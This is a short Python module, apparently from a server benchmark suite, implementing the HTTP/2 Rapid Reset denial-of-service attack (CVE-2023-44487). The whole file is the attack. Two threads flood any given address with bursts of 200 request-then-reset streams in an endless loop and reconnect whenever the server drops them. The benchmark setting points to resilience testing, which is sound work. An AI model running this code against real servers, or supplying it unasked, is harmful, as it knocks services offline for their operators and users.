"""Calls that are cancelled as soon as they are sent, as fast as two connections can (CVE-2023-44487)."""

import threading

from benchmarks.attacks.raw import GET_BATCH_AT, RawConnection, batch_request, headers, message, reset

_CONNECTIONS, _BURST = 2, 200


def attack(address: str) -> None:
    """Reset, and connect again whenever the server ends a connection."""
    threads = [threading.Thread(target=_reset, args=(address,)) for _ in range(_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _reset(address: str) -> None:
    request = batch_request(0, 64)
    while True:
        connection, stream = RawConnection(address), 1
        try:
            while connection.is_open:
                burst = b""
                for _ in range(_BURST):
                    burst += headers(stream, GET_BATCH_AT) + message(stream, request) + reset(stream)
                    stream += 2
                connection.send(burst)
        except OSError:
            connection.close()
